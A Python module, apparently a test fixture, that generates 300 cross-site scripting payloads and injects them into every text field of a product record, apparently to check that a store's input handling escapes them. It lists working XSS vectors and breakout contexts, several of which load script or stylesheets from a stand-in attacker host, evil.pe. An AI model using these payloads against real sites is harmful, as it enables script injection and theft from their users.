"""300 texts that try to run as code: what is injected x where it lands."""

from collections.abc import Callable, Iterable
from typing import Any

VECTORS = (
    "<script>alert(1)</script>",
    "<script src=//evil.pe/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;&#x61;vascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.pe/x.css>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<base href=//evil.pe/>",
    "<style>@import'//evil.pe/x.css'</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}<x onclick=alert(1)>",
)
CONTEXTS: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: f'">{text}',
    lambda text: f"'>{text}",
    lambda text: f"</script>{text}",
    lambda text: f"</title></textarea>{text}",
    lambda text: f"--><!--{text}",
    lambda text: f"<<p>{text}",
    lambda text: text.swapcase(),
    lambda text: "<b>" + text.replace(" ", "/\n"),
    lambda text: f"<p>{text}</p>\u2028",
)
PAYLOADS = [context(vector) for context in CONTEXTS for vector in VECTORS]


def text(payload: str, length: int) -> dict[str, str]:
    """As the name of something: in Spanish, cut to what the field holds."""
    return {"es": payload[:length].strip() or "x"}


def everywhere(payload: str) -> dict[str, Any]:
    """A product with the payload in each of its texts, cut to what the field holds."""
    return {
        "name": text(payload, 250),
        "shortDescription": text(payload, 500),
        "brand": payload[:120].strip(),
        "tags": [payload[:60].strip()],
        "seo": {"title": text(payload, 70), "description": text(payload, 320)},
        "specifications": [
            {"key": "own", "name": text(payload, 80), "value": text(payload, 500)},
            {"key": "model", "name": {}, "value": text(payload, 500)},
        ],
        "feed": {"googleCategory": payload, "gender": None, "ageGroup": None, "mpn": payload[:70].strip()},
        "options": [{"name": text(payload, 60), "values": [text(payload, 80)]}],
        "sku": payload,
        "barcode": payload[:64].strip(),
    }


def packed(payloads: Iterable[str], length: int) -> list[str]:
    """The texts in their order, as many in a row as a field of `length` letters holds."""
    rows = [""]
    for payload in payloads:
        longer = f"{rows[-1]} {payload}".strip()
        rows = [*rows[:-1], longer] if len(longer) <= length else [*rows, payload.strip()]
    return rows
